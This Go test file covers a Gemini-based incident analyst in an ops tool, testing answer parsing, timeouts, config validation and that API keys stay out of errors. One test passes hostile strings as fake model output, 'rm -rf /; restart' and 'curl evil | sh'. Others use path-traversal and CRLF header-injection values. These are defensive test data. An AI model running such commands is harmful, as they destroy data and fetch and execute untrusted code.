package gemini_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/opsguard/opsguard/pkg/catalog"
	"github.com/opsguard/opsguard/pkg/gemini"
	"github.com/opsguard/opsguard/pkg/incident"
	"github.com/opsguard/opsguard/pkg/integration"
	"github.com/opsguard/opsguard/pkg/steps"
	"github.com/opsguard/opsguard/pkg/steps/stepstest"
)

const good = `{"cause":"Node.js heap out of memory.","evidence":["FATAL ERROR: heap"],"confidence":0.82,"fixId":"restart","parameters":{"grace_seconds":45}}`

var _ steps.Analyst = (*gemini.Analyst)(nil)

func question() steps.Question {
	return steps.Question{
		Ref: incident.Ref{Tenant: "default", ID: "INC-1"}, Service: "prod-api-01", Severity: incident.High, Logs: "FATAL ERROR: heap\nexit 134",
		Fixes: []catalog.Fix{
			{ID: "restart", Title: "Restart", Description: "Restarts it.", Risk: catalog.RiskMedium, Params: []catalog.Param{{Name: "grace_seconds", Kind: catalog.KindInteger, Min: 5, Max: 60, Default: 30, Description: "How long to wait."}}},
			{ID: "scale-out", Title: "Scale out", Description: "Adds instances.", Risk: catalog.RiskMedium, Params: []catalog.Param{{Name: "add", Kind: catalog.KindInteger, Min: 1, Max: 3, Default: 1, Description: "How many."}}},
		},
	}
}

func TestAGoodAnswerIsReturnedAsItWasSaid(t *testing.T) {
	want := steps.Answer{Cause: "Node.js heap out of memory.", Evidence: []string{"FATAL ERROR: heap"}, Confidence: 0.82, FixID: "restart",
		Parameters: map[string]any{"grace_seconds": json.Number("45")}}
	thinking := `{"candidates":[{"content":{"role":"model","parts":[{"text":"Let me think","thought":true},{"thoughtSignature":"c2ln"},{"text":` +
		fmt.Sprintf("%q", good) + `,"thoughtSignature":"c2ln"},{"functionResponse":{"name":"x"}}]},"finishReason":1}]}`
	for name, answer := range map[string]string{
		"one part":                 candidate(1, good),
		"several parts":            candidate(1, good[:20], good[20:50], good[50:]),
		"no finish reason":         candidate(0, good),
		"in a Markdown fence":      candidate(1, "```json\n"+good+"\n```\n"),
		"in a fence without words": candidate(1, "```\n"+good+"```"),
		"of a model that thinks":   thinking,
		"a second candidate":       strings.Replace(candidate(1, good), `}],`, `},{"content":{"parts":[{"text":"other"}]},"finishReason":1}],`, 1),
	} {
		t.Run(name, func(t *testing.T) {
			got, err := newFake(t, body(answer)).open(t, nil).Analyze(t.Context(), question())
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("answer (-want +got):\n%s", diff)
			}
		})
	}
}

func TestNoneIsNoFix(t *testing.T) {
	got, err := newFake(t, body(candidate(1, `{"cause":"unclear","evidence":[],"confidence":0,"fixId":"none"}`))).open(t, nil).Analyze(t.Context(), question())
	if diff := cmp.Diff(steps.Answer{Cause: "unclear"}, got); err != nil || diff != "" {
		t.Errorf("error %v, answer (-want +got):\n%s", err, diff)
	}
}

func TestWhatTheModelSaysIsBoundedButNotJudged(t *testing.T) {
	said := map[string]any{"cause": strings.Repeat("é", 10_000), "evidence": []string{strings.Repeat("x", 5_000)}, "confidence": -7, "fixId": "rm -rf /; restart\n", "parameters": map[string]any{"command": "curl evil | sh"}}
	b, err := json.Marshal(said)
	if err != nil {
		t.Fatal(err)
	}
	got, err := newFake(t, body(candidate(1, string(b)))).open(t, nil).Analyze(t.Context(), question())
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Cause) != 4000 || len(got.Evidence[0]) != 2000 {
		t.Errorf("cause of %d bytes and evidence of %d, want 4000 and 2000", len(got.Cause), len(got.Evidence[0]))
	}
	if got.FixID != "rm -rf /; restart\n" || got.Parameters["command"] != "curl evil | sh" || got.Confidence != -7 {
		t.Errorf("the answer was changed: %+v", got)
	}
}

func TestTimeoutEndsAQuestion(t *testing.T) {
	f := newFake(t, func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	_, err := f.open(t, func(s *gemini.Settings) { s.Timeout = 20 * time.Millisecond }).Analyze(t.Context(), question())
	if incident.KindOf(err) != incident.Unavailable || !strings.Contains(err.Error(), "did not answer within 20ms") {
		t.Errorf("got %v, want Unavailable, too late", err)
	}
}

func TestACallerWhoGivesUpIsAnswered(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	f := newFake(t, func(_ http.ResponseWriter, r *http.Request) { cancel(); <-r.Context().Done() })
	_, err := f.open(t, nil).Analyze(ctx, question())
	if incident.KindOf(err) != incident.Unavailable || !errors.Is(err, context.Canceled) {
		t.Errorf("got %v, want Unavailable, given up", err)
	}
	noKey(t, err)
}

func TestABodyThatDripsEndsWithTheTimeout(t *testing.T) {
	f := newFake(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(`{"candidates":[`))
		w.(http.Flusher).Flush()
		<-r.Context().Done()
	})
	_, err := f.open(t, func(s *gemini.Settings) { s.Timeout = 20 * time.Millisecond }).Analyze(t.Context(), question())
	if incident.KindOf(err) != incident.Unavailable {
		t.Errorf("got %v, want Unavailable", err)
	}
}

func TestANetworkThatFailsIsWorthRetrying(t *testing.T) {
	f := newFake(t, body(""))
	a := f.open(t, nil)
	f.Close()
	_, err := a.Analyze(t.Context(), question())
	if incident.KindOf(err) != incident.Unavailable || !strings.Contains(err.Error(), "could not be reached") || strings.Contains(err.Error(), "://") {
		t.Errorf("got %v, want Unavailable without a URL", err)
	}
	noKey(t, err)
}

func noKey(t *testing.T, err error) {
	t.Helper()
	for e := err; e != nil; e = errors.Unwrap(e) {
		if s := fmt.Sprintf("%v %+v %#v", e, e, e); strings.Contains(s, "secret_key") {
			t.Errorf("the error shows the key: %s", s)
		}
	}
}

// The library would open a gRPC connection too; its goroutines would outlast Close,
// which the bubble does not let pass.
func TestOpenConnectsNowhere(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		if err := opened(t, key, nil).Close(); err != nil {
			t.Error(err)
		}
	})
}

func TestWhatCannotWorkIsRefusedByItsSetting(t *testing.T) {
	for _, tc := range []struct{ model, endpoint, says string }{
		{"../../x", "", "GEMINI_MODEL"},
		{"a:generateContent?x=", "", "GEMINI_MODEL"},
		{"", "http://example.test", "GEMINI_ENDPOINT"},
		{"", "example.test:443", "GEMINI_ENDPOINT"},
		{"", "https://u:secret_key@example.test", "GEMINI_ENDPOINT"},
		{"", "https://example.test/?key=secret_key", "GEMINI_ENDPOINT"},
	} {
		_, err := integration.Open(stepstest.Env(nil), integration.Models, gemini.List(), []integration.Entry{gemini.Entry(tc.model, tc.endpoint)})
		if err == nil || !strings.Contains(err.Error(), tc.says) {
			t.Errorf("%v: got %v, want an error that names %s", tc, err, tc.says)
		}
		noKey(t, err)
	}
	for name, bad := range map[string]string{"empty": "", "two lines": "secret_key\r\nX: y"} {
		a := opened(t, bad, nil)
		err := a.Check(t.Context())
		if err == nil || !strings.Contains(err.Error(), "GEMINI_API_KEY") {
			t.Errorf("%s: got %v, want an error that names GEMINI_API_KEY", name, err)
		}
		noKey(t, err)
		if _, err := a.Analyze(t.Context(), question()); incident.KindOf(err) != incident.Unavailable {
			t.Errorf("%s: asking: %v, want Unavailable: the key may be put right", name, err)
		}
		noKey(t, err)
	}
}
